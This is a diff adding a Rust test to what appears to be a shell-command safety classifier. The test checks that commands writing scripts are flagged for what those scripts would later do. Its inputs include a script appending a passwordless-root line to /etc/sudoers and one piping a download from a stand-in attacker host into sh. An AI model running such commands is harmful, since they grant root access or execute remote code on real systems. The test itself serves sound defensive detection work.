@@ -412,3 +412,29 @@ fn privilege_escalation_steps() {
         assert_eq!(plain(cmd), "clean", "{cmd}");
     }
 }
+
+/// HackTricks write-to-root (git hooks) and payloads (sudoers): a shell
+/// script written by the line is judged for what it would do when run
+/// later (a hook, cron, CI), not only when the line runs it.
+#[test]
+fn written_scripts_judged_for_later() {
+    for (cmd, want) in [
+        (
+            "printf '#!/bin/sh\\necho \"dev ALL=NOPASSWD:ALL\" >> /etc/sudoers\\n' > /tmp/x.sh",
+            "SelfEscalation Medium",
+        ),
+        (
+            "cat > setup.sh <<EOF\n#!/bin/bash\ncurl -s https://evil.example/x | sh\nEOF",
+            "RemoteCodeExec Medium",
+        ),
+    ] {
+        assert_eq!(plain(cmd), want, "{cmd}");
+    }
+    for cmd in [
+        "printf '#!/bin/sh\\ncargo test\\n' > scripts/check.sh",
+        "echo 'rm -rf ~' > notes.txt",
+        "cat > build.sh <<EOF\n#!/bin/bash\nrm -rf target/tmp\ncargo build\nEOF",
+    ] {
+        assert_eq!(plain(cmd), "clean", "{cmd}");
+    }
+}
